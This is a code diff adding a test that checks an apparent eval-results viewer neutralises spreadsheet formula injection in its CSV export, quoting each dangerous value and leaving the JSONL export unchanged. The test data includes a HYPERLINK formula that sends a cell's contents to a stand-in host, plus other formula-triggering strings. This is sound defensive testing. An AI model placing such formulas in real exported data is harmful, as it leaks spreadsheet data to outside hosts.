@@ -181,3 +181,27 @@ def test_in_a_browser_more_regressions_open_and_slash_ids_link(client: httpx.Cli
     page.wait_for_selector("#case-title")
     last = sorted(map(str, range(BROKEN)))[-1]  # the list is in case-id order
     assert page.locator("#case-title").inner_text() == f"g.e / HumanEval/{last}"
+
+
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula(tmp_path: Path) -> None:
+    """Issue 59, D19: outputs that a spreadsheet would run are quoted with ' in CSV, kept in JSONL."""
+    import csv
+    import io
+    import json
+
+    hostile = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "fine"]
+    store = open_store(tmp_path / "s.db")
+    write_run(store, BASE, [result_row(BASE, f"c{i}", output=text, passed=False)
+                            for i, text in enumerate(hostile)])
+    store.close()
+    proc, url = start_viewer(tmp_path / "s.db")
+    try:
+        with httpx.Client(base_url=base_of(url), follow_redirects=True) as viewer:
+            viewer.get(url)
+            rows = list(csv.DictReader(io.StringIO(viewer.get(f"/runs/{BASE}/export.csv").text)))
+            lines = viewer.get(f"/runs/{BASE}/export.jsonl").text.splitlines()
+    finally:
+        stop(proc)
+    shown = {r["case"]: r["output"] for r in rows}
+    assert [shown[f"c{i}"] for i in range(len(hostile))] == ["'" + t for t in hostile[:-1]] + ["fine"]
+    assert sorted(json.loads(line)["output"] for line in lines) == sorted(hostile)
